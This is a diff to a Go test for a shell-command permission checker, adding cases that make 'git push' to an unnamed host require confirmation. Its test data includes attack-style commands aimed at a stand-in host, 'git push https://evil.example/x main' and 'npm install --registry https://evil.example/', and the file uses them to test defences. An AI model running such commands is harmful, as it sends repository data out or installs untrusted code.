@@ -27,7 +27,9 @@ func TestConnectionsOfASpelledCommand(t *testing.T) {
 		texts []string
 	}{
 		{"config", Config{Rules: allow("npm install", "git push", "pip install"), Network: on}, nil, "allow", []string{"npm install", "npm install left-pad", "git push", "git push origin main", "pip install x", "timeout 60 npm install"}},
-		{"rule", Config{Network: on}, []string{"allow shell(npm install)", "allow shell(git push)", "allow write_file(**)"}, "allow", []string{"npm install left-pad", "git push", "git push ssh://git@a.example/x"}},
+		{"rule", Config{Network: on}, []string{"allow shell(npm install)", "allow shell(git push)", "allow write_file(**)"}, "allow", []string{"npm install left-pad", "git push"}},
+		{"rule, and a host that it does not spell", Config{Network: on}, []string{"allow shell(git push)", "allow shell(pip install)", "allow write_file(**)"}, "ask", []string{"git push ssh://git@a.example/x", "git push https://evil.example/x main"}},
+		{"rule that spells the host", Config{Network: on}, []string{"allow shell(git push ssh://git@a.example/x)"}, "allow", []string{"git push ssh://git@a.example/x"}},
 		{"config, and a flag that names a host", Config{Rules: allow("npm install"), Network: on}, nil, "ask", []string{"npm install --registry https://evil.example/"}},
 		{"rule, and a flag that names a host", Config{Network: on}, []string{"allow shell(npm install)"}, "ask", []string{"npm install --registry https://evil.example/"}},
 		{"config with a program", Config{Rules: allow("npm", "git", "curl"), Network: on}, nil, "ask", []string{"npm install", "git push", "curl https://a.example/", "curl $URL"}},
